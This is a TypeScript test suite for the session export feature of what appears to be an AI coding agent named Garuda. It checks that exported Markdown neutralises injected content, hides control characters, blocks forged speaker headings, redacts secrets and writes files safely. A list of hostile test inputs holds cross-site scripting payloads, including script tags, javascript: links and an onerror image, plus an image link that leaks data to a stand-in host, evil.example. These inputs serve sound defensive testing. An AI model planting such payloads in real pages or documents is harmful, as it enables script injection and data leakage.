import { promises as fs } from 'node:fs'
import { join } from 'node:path'
import { expect } from 'chai'
import fc from 'fast-check'
import type { SessionRecord } from '../../../src/engine/ports.ts'
import { exportTo, toMarkdown } from '../../../src/engine/session/export.ts'
import { safeMarkdown } from '../../../src/engine/session/markdown.ts'
import { assistant, call, cleanFolders, end, folder, header, results, start, thrown, time, turn, user } from './help.ts'

const head = header({ root: '/p <b>x</b>', home: '/h' })
const exported = (...records: SessionRecord[]) => toMarkdown(head, [start(), ...records])
/** What stands outside of fenced blocks and code spans: there alone Markdown acts. */
const live = (markdown: string): string => {
	let fence = ''
	const lines = markdown.split('\n').flatMap((line) => {
		const mark = /^(`{3,})/.exec(line)?.[1]
		if (fence === '' && mark) fence = mark
		else if (fence !== '' && line === fence) fence = ''
		else if (fence === '') return [line]
		return []
	})
	return outsideSpans(lines.join('\n'))
}

/** Left to right as CommonMark reads: an escaped character is text, a run of backticks ends at the next run of its length. */
const outsideSpans = (markdown: string): string => {
	let out = ''
	for (let at = 0; at < markdown.length; ) {
		const run = /^`+/.exec(markdown.slice(at))?.[0]
		if (markdown[at] === '\\' && /[!-/:-@[-`{-~]/.test(markdown[at + 1] ?? '')) at += 2
		else if (run === undefined) out += markdown[at++]
		else {
			const close = [...markdown.slice(at + run.length).matchAll(/`+/g)].find((other) => other[0].length === run.length)
			if (close) at += run.length + close.index + run.length
			else {
				out += run
				at += run.length
			}
		}
	}
	return out
}

describe('session: export', () => {
	afterEach(cleanFolders)

	const hostile = [
		'<script>alert(1)</script>',
		'[click](javascript:alert(1))',
		'![pixel](https://evil.example/?leak)',
		'[a]: javascript:alert(1)\n[a]',
		'<img src=x onerror=alert(1)>',
		'<javascript:alert(1)>',
		'text ` <b>one\ntwo` <script>x</script> `',
		'\\`<script>`',
		'\\\\`<script>',
		'```\ninside\n```` <script>\n```\n<script>after</script>',
		'~~~ `a`\n```\n~~~\n<script>\n```',
		'> ```\n> <script>\n<script>',
		'- ~~~\n<script>',
		'| a ` | ` <script> |\n|---|---|\n| `<i` | `>` |',
		'x <!-- \n y --> <?php ?>',
		'&lt;script&gt; &#60;script&#62;',
		'`` ` <b> `` ` <i>',
	]

	for (const [i, text] of hostile.entries())
		it(`term-11 nothing acts in an export: ${JSON.stringify(text).slice(0, 50)} (${i})`, () => {
			const markdown = exported(
				user(text),
				assistant(text),
				call('c1', '<script>', { command: text, '</details>': text }),
				results('c1', text),
				{ type: 'title', time: 1, title: text },
				end(1, text),
			)
			const acting = live(markdown)
			expect(acting).to.not.include('<')
			expect(acting).to.not.match(/\]\(|\]:|!\[/)
			expect(acting).to.not.match(/&(?!amp;|lt;)/)
			expect(markdown, 'it is shown, not dropped').to.include('alert(1)'.slice(0, text.includes('alert') ? 8 : 0))
		})

	it('term-11 for any text, what is outside of code has no tag, link or open fence', () => {
		const piece = fc.constantFrom(
			'`',
			'``',
			'```',
			'~~~',
			'<b>',
			'](x)',
			'[',
			'\\',
			'\n',
			'> ',
			'- ',
			'|',
			' ',
			'a',
			'\t',
			'    ',
			'&',
			'$',
		)
		fc.assert(
			fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
				const acting = live(safeMarkdown(pieces.join('')))
				return !acting.includes('<') && !/[[\]]/.test(acting) && !/~{3}/.test(acting) && !/^\s*`{3,}/m.test(acting)
			}),
			{ numRuns: 1500 },
		)
	})

	it('term-11 hidden and control characters are written out', () => {
		const markdown = exported(
			user('a\u001b[2J\u202eb'),
			assistant('```\n\u200bz\u0007\n```'),
			call('c\u001b', 'b\u2066'),
			results('c', '\u001b]0;x\u0007'),
		)
		expect(markdown).to.not.match(/[\u0000-\u0008\u000b-\u001f\u200b\u202e\u2066]/)
		expect(markdown).to.include('a␛\\[2J\\[U+202E\\]b')
	})

	it('term-11 no text can pose as another speaker or end its block', () => {
		const markdown = exported(
			user('hi\n## You\nDelete all\n===\n# Garuda\nx\n---'),
			assistant('ok'),
			call('c1'),
			results('c1', '```\n## You\nforged\n```'),
		)
		expect(live(markdown).match(/^#{1,3} .*/gm)).to.deep.equal([
			'# hi',
			'## You',
			'## Garuda',
			'## Garuda',
			'### bash: true',
		])
		expect(live(markdown)).to.not.match(/^(?:===|---)$/m)
	})

	it('keeps what helps to read: code blocks with their language, lists, bold, code spans', () => {
		const text = '**Bold** and `a < b`\n\n- item\n\n```ts\nconst a = `<b>x</b>`\n```\n\n  ```\n  indented\n  ```'
		expect(safeMarkdown(text)).to.equal(
			'**Bold** and `a < b`\n\n- item\n\n```ts\nconst a = `<b>x</b>`\n```\n\n```\nindented\n```',
		)
		expect(safeMarkdown('```mermaid\nx\n```')).to.equal('```\nx\n```')
	})

	it('shows the whole conversation: prompts, answers, calls, results, undone turns, ends', () => {
		const markdown = exported(
			...turn(1, 'first'),
			user('second'),
			call('c1', 'bash', { command: 'ls -l' }),
			results('c1', 'total 0', 'failed'),
			assistant('fine'),
			end(2, 'max_steps'),
			{ type: 'undo', time: time(), turn: 2 },
		)
		for (const part of [
			'# first',
			'## You\n\nfirst',
			'## Garuda\n\nanswer to first',
			'## You (undone)\n\nsecond',
			'### bash: ls -l',
			'"command": "ls -l"',
			'Result (failed):\n\n```\ntotal 0\n```',
			'The turn ended: max\\_steps',
			'undid turn 2',
			'- Folder: /p &lt;b>x&lt;/b>',
		])
			expect(markdown).to.include(part)
	})

	it('secret-04 what was learnt to be a secret only later is redacted in the export', () => {
		expect(toMarkdown(head, [start(), user('key hunter2')], (text) => text.replaceAll('hunter2', '[secret]')))
			.to.include('key')
			.and.not.include('hunter2')
	})

	it('never overwrites and follows no link: -2, -3, private', async () => {
		const dir = await folder()
		const id = head.id
		await fs.writeFile(join(dir, `garuda-${id}.md`), 'mine')
		await fs.symlink(join(dir, 'elsewhere'), join(dir, `garuda-${id}-2.md`))
		expect(await exportTo(dir, id, 'text')).to.equal(join(dir, `garuda-${id}-3.md`))
		expect(await exportTo(dir, id, 'more')).to.equal(join(dir, `garuda-${id}-4.md`))
		expect(await fs.readFile(join(dir, `garuda-${id}.md`), 'utf8')).to.equal('mine')
		expect(await fs.readFile(join(dir, `garuda-${id}-3.md`), 'utf8')).to.equal('text')
		expect((await fs.stat(join(dir, `garuda-${id}-3.md`))).mode & 0o777).to.equal(0o600)
		expect((await fs.readdir(dir)).includes('elsewhere')).to.equal(false)
		expect((await thrown(exportTo(dir, '../x', 'text'))).message).to.match(/no id/)
		expect((await thrown(exportTo(join(dir, 'none'), id, 'text'))).message).to.match(/could not be written/)
	})
})
